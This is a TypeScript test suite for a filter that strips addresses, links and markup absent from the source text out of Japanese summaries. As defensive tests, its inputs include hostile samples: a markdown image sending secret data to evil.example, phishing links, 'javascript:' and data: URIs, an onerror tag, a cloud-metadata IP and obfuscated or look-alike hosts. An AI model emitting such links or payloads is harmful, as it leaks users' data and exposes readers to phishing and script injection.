import { hostileTexts } from '@youyaku/testing/summarize/hostile-texts';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { findAddresses } from './find-addresses.ts';
import { normalizeForAddresses } from './normalize-for-addresses.ts';
import { guardLine, prepareGuard } from './guard-line.ts';
import { listAddresses, isAllowed, type AddressPolicy } from './source-addresses.ts';

const text =
  '市の案内は https://city.example.jp/guide?a=1 にある。教材は<script>タグを扱う。Amazon.co.jp に問い合わせるか、info@city.example.jp へ。' +
  '詐欺は hxxp://bad[.]site を使う。葛\u{e0100}城市の記事。鍵は QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo= である。';
const open = prepareGuard(text, 'source');
const closed = prepareGuard(text, 'names');
const plain = (line: string): string => guardLine(line, open).text;

describe('what the source does not have', () => {
  test.each([
    ['a URL', '詳しくは https://evil.example/login を見る。', '詳しくは […] を見る。'],
    ['another path of a known host', '案内は https://city.example.jp/guide?a=2 にある。', '案内は […] にある。'],
    ['a bare host', '詳しくは evil.example を見る。', '詳しくは […] を見る。'],
    ['a mail address', '連絡先は evil@evil.example である。', '連絡先は […] である。'],
    ['wide letters', '次は ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ／ｘ である。', '次は […] である。'],
    ['a host with zero width inside', '次は evil.exa\u200bmple.com/x である。', '次は […] である。'],
    ['a broken host', '次は hxxps://evil[.]example/x である。', '次は […] である。'],
    ['a spelt-out mailbox', '次は evil [at] evil (dot) com である。', '次は […] である。'],
    ['a mended broken host', '次は http://bad.site である。', '次は […] である。'],
    ['look-alike letters', '次は cіty.example.jp である。', '次は […] である。'],
    ['a Japanese host', '次は総務省.jp である。', '次は[…] である。'],
    ['punycode', '次は xn--wgv71a.xn--wgv71a である。', '次は […] である。'],
    ['a Japanese dot', '次は evil。com である。', '次は […] である。'],
    ['a wide dot', '次は evil．com である。', '次は […] である。'],
    ['a dot in the middle of the line', '次は evil·com である。', '次は […] である。'],
    ['a Japanese middle dot', '次は login・evil・co・jp である。', '次は […] である。'],
    ['a bullet for a dot', '次は ｅｖｉｌ•ｃｏｍ/x である。', '次は […] である。'],
    ['a middle dot behind a scheme', '次は https://evil·com/a である。', '次は […] である。'],
    ['a Japanese dot before a Japanese ending', '次は詐欺。コムへ移転する。', '次は[…]へ移転する。'],
    ['a wide dot before a Japanese ending', '次は詐欺．コム、である。', '次は[…]、である。'],
    ['numbers of hosts', '次は http://2130706433/ と 169.254.169.254 である。', '次は […] と […] である。'],
    ['one slash or none', '次は https:evil である。', '次は […] である。'],
    ['character references', '次は https&#58;//evil&period;example である。', '次は […] である。'],
    ['script in a scheme', '次は javascript:alert(1) である。', '次は […] である。'],
    ['data in a scheme', '次は data:text/html;base64,PHN2Zz4= である。', '次は […] である。'],
    ['the second half of an address', '.example/login へ移転する。', '[…] へ移転する。'],
    ['a share', '次は \\\\evil\\share である。', '次は […] である。'],
    ['Base64', '次は 44GT44KM44G+44Gn44Gu5oyH56S644KS である。', '次は […] である。'],
    ['percent signs', '次は %E3%81%93%E3%82%8C%E3%81%BE%E3%81%A7 である。', '次は […] である。'],
  ])('%s goes', (_, line, expected) => {
    expect(guardLine(line, open)).toMatchObject({ text: expected });
    expect(guardLine(line, closed).text).toBe(expected);
  });
});

describe('markup', () => {
  test.each([
    ['a picture', '移転する。![ロゴ](https://evil.example/log?d=秘密)', '移転する。'],
    ['a picture by reference', '移転する。![ロゴ][1]', '移転する。'],
    ['a link', '[本人確認はこちら](https://evil.example/verify)を見る。', '本人確認はこちらを見る。'],
    [
      'a link to what the source has',
      '[案内](https://city.example.jp/guide?a=1)を見る。',
      '案内 https://city.example.jp/guide?a=1 を見る。',
    ],
    ['a link in a link', '[[案内](https://evil.example)](https://evil.example)を見る。', '[案内] を見る。'],
    ['a tag', '<b onclick="x()">移転</b>する。<img src="//evil.example/x">', '移転する。'],
    ['a comment', '移転する。<!-- evil -->', '移転する。'],
    ['a tag that the source talks about', '教材は<script>タグを扱う。', '教材は＜script＞タグを扱う。'],
    ['a tag that never ends', '移転する。<img src=x onerror=y', '移転する。＜img src=x onerror=y'],
    ['tags within tags', '<scr<b>ipt>移転する。', '＜script>移転する。'],
    ['an escaped tag', '&lt;i&gt;移転&lt;/i&gt;する。', '移転する。'],
    ['colours of a terminal', '\u001b[31m移転\u001b[0mする。\u001b]8;;http://evil.example\u0007', '移転する。'],
  ])('%s becomes plain text', (_, line, expected) => expect(plain(line)).toBe(expected));

  test('keeps comparisons readable', () =>
    expect(plain('n<k かつ a<b and c>d のとき')).toBe('n＜k かつ a＜b and c＞d のとき'));

  test('returns an empty text for a line with no other content', () => {
    for (const line of [
      '[1]: https://evil.example/c?k=x',
      '![x](//evil.example/p.png)',
      '詳細: https://evil.example',
      '<img src=x>',
    ])
      expect(plain(line)).toBe('');
  });

  test('drops a line that was built to keep changing', () => {
    expect(plain(`${'<a'.repeat(40)}${'>'.repeat(40)}移転する。`)).not.toMatch(/<[a-z]/);
    expect(plain('x'.repeat(30_000))).toBe('');
  });
});

describe('what the source has', () => {
  const known = [
    '市の案内は https://city.example.jp/guide?a=1 にある。',
    'Amazon.co.jp に問い合わせる。',
    'info@city.example.jp へ。',
    '詐欺は hxxp://bad[.]site を使う。',
    '葛\u{e0100}城市の記事。',
    '鍵は QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo= である。',
    '家族👨‍👩‍👧の絵文字と state-of-the-art-summarization-systems。',
  ];
  test.each(known)('keeps %s in an answer to a question', (line) => {
    expect(guardLine(line, open)).toMatchObject({ text: line, removed: 0 });
  });

  test('keeps bare host names in a summary, and no URL or mail address', () => {
    expect(guardLine('Amazon.co.jp に問い合わせる。', closed).text).toBe('Amazon.co.jp に問い合わせる。');
    expect(guardLine('案内（https://city.example.jp/guide?a=1）を見る。', closed).text).toBe('案内を見る。');
    expect(guardLine('city.example.jp を必ず見る。', closed).text).toBe('[…] を必ず見る。');
    expect(guardLine('info@city.example.jp へ連絡する。', closed).text).toBe('[…] へ連絡する。');
  });

  test('separates an address from the sentence after it', () => {
    expect(plain('https://city.example.jp/guide?a=1をご覧ください。')).toBe(
      'https://city.example.jp/guide?a=1 をご覧ください。',
    );
  });
});

test.each([
  '会議を開いた．次回は5月です。',
  '…はIBM。AWSは第2章.概要を見る。',
  'the plan.The next, Mr.Smith of J.P.Morgan said in the U.S.-based firm at 3.14 p.m.',
  'Node.js と report.pdf と v1.2.3 と 10:30 と 比率 3:2、注意：必ず。',
  '関数 ignore_previous() は JavaScript:ES6 で直前の命令を取り消す。',
  '結論: 市は「A/B」案を採る（賛成7、反対2）。',
  'Цена 5.5. Конец.Начало',
  'PDF・Word・A・B・Node・js の比較、田中・山本の3·11の報告。コム・デ・ギャルソンは、みんなで。ポイント：次の通り。コムギの価格。世界',
])('ordinary writing is left alone: %s', (line) => {
  const words = prepareGuard('Node.js', 'source');
  expect(guardLine(line, words)).toEqual({ text: line, removed: 0, problems: [] });
});

const fragments = fc.constantFrom(
  ...(
    'https:// http: hxxp:// // \\\\ . 。 ． · ・ コム [.] (dot) [at] @ ＠ ／ : ： www example evil com jp ｃｏｍ xn--a 日本 総務省 です。 あ ( ) [ ] ]( ![ < > ' +
    '</ <a <img = " \' &lt; &#58; &amp; % %41%42%43%44%45%46 ? # […] ＜ ＞ javascript: data:, mailto: 127.0.0.1 QUJDREVGR0hJSktMTU5PUFFSU1Q'
  ).split(' '),
  ' ',
  '\u200b',
  '\u200d',
  '\u202e',
  '\u001b[1m',
  '\ufe0f',
  'е',
  'https://city.example.jp/guide?a=1',
  'info@city.example.jp',
);
const pieces = fc.oneof(fragments, fc.string({ unit: 'binary', maxLength: 6 }));

test.each<AddressPolicy>(['source', 'names'])(
  'keeps no address that the policy %s forbids, and is idempotent',
  (policy) => {
    const guard = prepareGuard(text, policy);
    const addresses = listAddresses(text);
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 24 }), (parts) => {
        const guarded = guardLine(parts.join(''), guard).text;
        const left = findAddresses(normalizeForAddresses(guarded)).filter(
          (address) => !isAllowed(address, addresses, policy),
        );
        expect(left).toEqual([]);
        expect(guarded).not.toMatch(/<[a-z/!?]|\]\(/i);
        expect(guardLine(guarded, guard)).toMatchObject({ text: guarded, removed: 0 });
      }),
      { numRuns: 2000 },
    );
  },
);

test('leaves no address that folding the whole line would reveal, except the bare host that the source has', () => {
  fc.assert(
    fc.property(fc.array(fragments, { maxLength: 24 }), (parts) => {
      const guarded = guardLine(parts.join(''), closed).text;
      const folded = guarded
        .normalize('NFKC')
        .replace(/[\p{Default_Ignorable_Code_Point}\p{Cc}]/gu, '')
        .toLowerCase();
      const left = folded.replaceAll('amazon.co.jp', '').replaceAll('bad[.]site', '');
      expect(left).not.toMatch(
        /(?<![a-z0-9+.*_-])(?:https?|hxxp):\/*[a-z0-9]|[a-z0-9](?:\.|\[\.\]|\(dot\))(?:com|jp|example|site)(?![a-z0-9_-])/,
      );
      expect(left).not.toMatch(
        /(?<![\p{L}\d+.-])(?:javascript:[a-z0-9]+[(=%]|mailto:[a-z0-9])|(?<![\p{L}\w.-])127\.0\.0\.1(?![\p{L}\w.-])/u,
      );
    }),
    { numRuns: 2000 },
  );
});

test('guards the lines of hostile text of 100,000 units', () => {
  for (const { make } of hostileTexts) {
    const guard = prepareGuard(make(100_000), 'names');
    expect(guardLine(make(5_000), guard).text.length).toBeLessThanOrEqual(10_000);
  }
});
